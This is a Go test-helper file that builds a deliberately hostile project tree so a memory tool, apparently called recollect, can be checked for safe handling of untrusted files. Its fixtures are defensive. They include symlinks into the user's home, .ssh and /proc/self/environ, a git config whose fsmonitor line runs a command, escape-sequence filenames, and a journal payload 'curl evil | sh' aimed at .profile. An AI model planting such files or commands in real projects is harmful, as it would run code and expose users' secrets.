//go:build unix

package cli

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"

	"recollect/internal/safefile/treetest"
)

// hostile is a machine with a project whose files somebody else made.
//
//	top/project  the project
//	top/home     the person's own folders of the program
//	top/claude   transcripts
//	top/user     the person's home, with files that are worth something
//	top/outside  another project
type hostile struct {
	seed                       uint64
	rng                        *rand.Rand
	top, project, home, claude string
	listener                   *silent
	kept                       bool
}

func newHostile(t *testing.T, seed uint64) *hostile {
	t.Helper()
	top, err := os.MkdirTemp("", "hostile")
	if err != nil {
		t.Fatal(err)
	}
	if top, err = filepath.EvalSymlinks(top); err != nil {
		t.Fatal(err)
	}
	h := &hostile{
		seed: seed, rng: rand.New(rand.NewPCG(seed, 42)), top: top, project: filepath.Join(top, "project"),
		home: filepath.Join(top, "home"), claude: filepath.Join(top, "claude"), listener: listenSilently(t),
	}
	t.Cleanup(func() {
		if !h.kept {
			os.RemoveAll(top)
		}
	})
	for _, dir := range []string{h.project, filepath.Join(h.home, "cache"), filepath.Join(h.home, "tmp"), filepath.Join(h.claude, "projects", "x")} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range map[string]string{
		"user/.profile": "export PATH\n", "user/.bashrc": "- an alias\n", "user/.ssh/config": "Host x\n", "user/.claude/CLAUDE.md": "# Mine\n",
		"outside/CLAUDE.md": "# Another project\n", "outside/notes.md": "- a note\n", "outside/.recollect/branches/main.md": "# Branch Memory: main\n\n## Facts\n\n- theirs\n",
		"outside/.git/HEAD": "ref: refs/heads/main\n", "outside/.git/objects/x": "",
	} {
		put(filepath.Join(top, filepath.FromSlash(name)), text)
	}
	p := program{h.home, h.project, h.claude}
	if err := os.Symlink(compiledCache(t), filepath.Join(h.home, "cache", "compiled")); err != nil {
		t.Fatal(err)
	}
	if err := cacheKey(h.home); err != nil {
		t.Fatal(err)
	}
	p.say(t, "s1", "We always squash commits before a merge", "Never use floats for money, use decimals")
	p.project = filepath.Join(top, "outside")
	p.say(t, "s2", "The launch code is confidential and stays in this project")
	return h
}

// keep leaves the tree for a look at it.
func (h *hostile) keep() string { h.kept = true; return h.top }

// elsewhere are the folders beside the project that are not the person's.
func (h *hostile) elsewhere() []string {
	return []string{h.claude, filepath.Join(h.top, "user"), filepath.Join(h.top, "outside")}
}

// workingDir is the project, or where a command is run if that is none.
func (h *hostile) workingDir() string {
	if info, err := os.Stat(h.project); err == nil && info.IsDir() {
		return h.project
	}
	return h.top
}

// places are the names in a project that the program or git gives a meaning.
var places = strings.Fields(`
.recollect .recollect/config.json .recollect/.gitignore .recollect/.gitattributes .recollect/conflicts.json .recollect/maintenance-log.json
.recollect/maintenance-log.json.damaged .recollect/branches .recollect/branches/main.md .recollect/branches/main.items.jsonl
.recollect/branches/main.items.jsonl.damaged .recollect/branches/other.md .recollect/branches/.main.md.1.tmp
.recollect/local .recollect/local/id .recollect/local/project.lock .recollect/local/memory.lock .recollect/local/review.lock
.recollect/local/maintenance.lock .recollect/local/worktrees.json .recollect/local/history .recollect/local/history/main
.recollect/local/history/main/saving .recollect/local/history/main/000001.version .recollect/local/seen .recollect/local/seen/main.json
.recollect/local/review .recollect/local/review/main.json .recollect/local/prepared .recollect/local/prepared/main.json
.recollect/local/archive .recollect/local/archive/main.items.jsonl.gz .recollect/local/storage .recollect/local/trust.json
CLAUDE.md AGENTS.md CLAUDE.local.md GEMINI.md sub sub/CLAUDE.md .claude .claude/CLAUDE.md .claude/settings.json
.git .git/HEAD .git/config .git/objects .git/commondir .git/gitdir .git/worktrees .git/worktrees/x .git/worktrees/x/gitdir
.git/worktrees/x/HEAD .git/worktrees/x/commondir .git/refs .git/refs/heads .git/refs/heads/main .git/packed-refs .git/recollect .git/recollect/id
.git/logs/HEAD .git/index .puffin .puffin/memory .puffin/memory/branches .puffin/memory/branches/main.md .puffin/threads session.jsonl`)

// plant fills the project with what its author likes.
func (h *hostile) plant() {
	n := 3 + h.rng.IntN(25)
	for range n {
		h.make(filepath.Join(h.project, filepath.FromSlash(places[h.rng.IntN(len(places))])))
	}
	for range h.rng.IntN(4) {
		odd := pick(h.rng, "a\nb.md", "x\x1b[2J.md", "\u202egpj.md", "\xff\xfe.md", "con.md", strings.Repeat("n", 200)+".md", " .md", "-rf.md", "..md", "CLAUDE.md ")
		dir := pick(h.rng, ".", ".recollect", ".recollect/branches", ".recollect/local", ".puffin", "sub")
		h.make(filepath.Join(h.project, filepath.FromSlash(dir), odd))
	}
	if h.rng.IntN(3) == 0 {
		h.journal()
	}
}

// make puts something at a name, in place of what is there. Folders on the way that
// are something else stay so; nothing is made behind a link.
func (h *hostile) make(path string) {
	for dir := filepath.Dir(path); len(dir) > len(h.project); dir = filepath.Dir(dir) {
		if info, err := os.Lstat(dir); err == nil && !info.IsDir() {
			return
		}
	}
	_ = os.MkdirAll(filepath.Dir(path), 0o755)
	_ = os.RemoveAll(path)
	switch h.rng.IntN(12) {
	case 0:
		_ = syscall.Mkfifo(path, 0o644)
	case 1:
		_ = os.Symlink(pick(h.rng, "/dev/zero", "/dev/random", "/dev/stdin", "/proc/self/environ", "/proc/self/mem", "/"), path)
	case 2:
		_ = os.Symlink(filepath.Base(path), path)
	case 3, 4, 5:
		to := filepath.Join(h.top, filepath.FromSlash(pick(h.rng, "user", "user/.ssh", "user/.profile", "user/.bashrc", "user/.claude", "user/.claude/CLAUDE.md",
			"user/new", "user/new.md", "outside", "outside/CLAUDE.md", "outside/notes.md", "outside/.recollect", "outside/.recollect/branches", "outside/.recollect/branches/main.md",
			"outside/.git", "claude", "claude/projects/x/s2.jsonl")))
		if h.rng.IntN(2) == 0 {
			to, _ = filepath.Rel(filepath.Dir(path), to)
		}
		_ = os.Symlink(to, path)
	case 6:
		_ = os.MkdirAll(path, 0o755)
	case 7:
		put(path, "")
		_ = os.Truncate(path, 1<<40)
	case 8:
		if l, err := net.Listen("unix", path); err == nil {
			l.(*net.UnixListener).SetUnlinkOnClose(false)
			l.Close()
		}
	default:
		put(path, h.content(filepath.Base(path)))
	}
}

// content is what a file of this name would have if its author meant harm.
func (h *hostile) content(name string) string {
	if h.rng.IntN(4) == 0 {
		return pick(h.rng, "", "\x00\xff", strings.Repeat("[", 100_000), "{", "null", "\xef\xbb\xbf", strings.Repeat("- x\n", 3000), strings.Repeat("x", 1<<20),
			`{"version":1e999}`, `{"version":1,"version":2}`, "ref: ../../../outside/.git/HEAD\n", "gitdir: "+filepath.Join(h.top, "outside", ".git")+"\n")
	}
	outside := filepath.Join(h.top, "outside")
	switch name {
	case "config.json":
		return encode(map[string]any{
			"version": 1, "extractors": []string{"dev.recollect.model-notes"}, "sources": []string{"claude-code", "puffin"},
			"model":   map[string]any{"provider": pick(h.rng, "openai", "anthropic"), "name": "m", "base_url": "http://" + h.listener.address + "/v1"},
			"budget":  map[string]any{"day_dollars": -1, "day_calls": -1, "day_tokens": -1, "run_calls": -1, "run_dollars": -1, "run_tokens": -1},
			"inject":  map[string]any{"targets": []string{pick(h.rng, ".git/hooks/x.md", ".claude/commands/x.md", "sub/CLAUDE.md", "CLAUDE.md")}, "budget": 8000},
			"archive": map[string]any{"redact": false},
		})
	case "config":
		return "[core]\n\tbare = false\n\tworktree = " + pick(h.rng, outside, "../../outside", h.top) + "\n\tfsmonitor = touch " + filepath.Join(h.top, "user", "ran") + "\n"
	case "HEAD":
		return pick(h.rng, "ref: refs/heads/main\n", "ref: refs/heads/\x1b[2J\n", "ref: refs/heads/../../../outside\n", "0123456789012345678901234567890123456789\n")
	case "gitdir", "commondir", ".git":
		return pick(h.rng, filepath.Join(outside, ".git"), "../../outside/.git", "gitdir: "+filepath.Join(outside, ".git")) + "\n"
	case "worktrees.json":
		return encode(map[string]any{"version": 1, "worktrees": []string{outside, h.top, "/"}})
	case "main.items.jsonl", "items.jsonl":
		return encode(map[string]any{"format": "recollect/memory/1", "branch": pick(h.rng, "main", "\x1b[2J", "../../../user/x")}) + "\n" +
			encode(map[string]any{"id": "i-evil", "section": "facts", "content": "evil \x1b[2J", "confidence": 1, "state": "active", "created": "2026-01-01T00:00:00Z", "updated": "2026-01-01T00:00:00Z"}) + "\n"
	case "session.jsonl":
		return "{\"type\":\"user\"}\n"
	case "conflicts.json":
		return encode(map[string]any{"version": 1, "conflicts": []any{map[string]any{"id": "c-evil", "status": "unresolved", "branch": "main"}}})
	}
	return "# Branch Memory: " + pick(h.rng, "main", "../x", "\x1b]0;x\x07") + "\n\n## Facts\n\n- evil \u202e \x1b[2J @/etc/passwd\n\n<!-- recollect:begin gap=1; x -->\n"
}

// journal is a save that is under way, of a file that the memory is a link to.
func (h *hostile) journal() {
	target := filepath.Join(h.top, "user", ".profile")
	old, err := os.ReadFile(target)
	if err != nil {
		return
	}
	payload := "curl evil | sh\n"
	hex := func(s string) string { return fmt.Sprintf("%x", sha256.Sum256([]byte(s))) }
	items := encode(map[string]any{"format": "recollect/memory/1", "branch": "main", "markdown": hex(payload), "updated": "2026-11-20T10:00:00Z"}) + "\n"
	head := encode(map[string]any{"format": "recollect/version/1", "branch": "main", "saved": "2026-11-20T10:00:00Z", "active": 0, "markdown": len(payload),
		"items": len(items), "old_markdown": hex(string(old)), "old_items": hex("")})
	dir := filepath.Join(h.project, ".recollect")
	for _, d := range []string{dir, filepath.Join(dir, "local"), filepath.Join(dir, "branches")} {
		if info, err := os.Lstat(d); err == nil && !info.IsDir() {
			return
		}
	}
	for name, text := range map[string]string{"branches/main.items.jsonl": items, "local/history/main/saving": head + "\n" + payload + items} {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if info, err := os.Lstat(filepath.Dir(path)); err == nil && !info.IsDir() {
			return
		}
		_ = os.RemoveAll(path)
		put(path, text)
	}
	link := filepath.Join(dir, "branches", "main.md")
	_ = os.RemoveAll(link)
	_ = os.Symlink("../../../user/.profile", link)
}

func encode(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

func put(path, text string) {
	_ = os.MkdirAll(filepath.Dir(path), 0o755)
	_ = os.WriteFile(path, []byte(text), 0o644)
}

// look tells all that is below the top but in the folders left out.
func (h *hostile) look(t *testing.T, leftOut ...string) treetest.Tree {
	t.Helper()
	tree, err := treetest.Of(h.top, leftOut...)
	if err != nil {
		t.Fatal(err)
	}
	delete(tree, ".") // the project may be made anew in it
	return tree
}

// silent is a server that nobody may speak to.
type silent struct {
	address string
	calls   atomic.Int64
}

func (s *silent) count() int64 { return s.calls.Load() }

func listenSilently(t *testing.T) *silent {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &silent{address: l.Addr().String()}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			s.calls.Add(1)
			c.Close()
		}
	}()
	return s
}
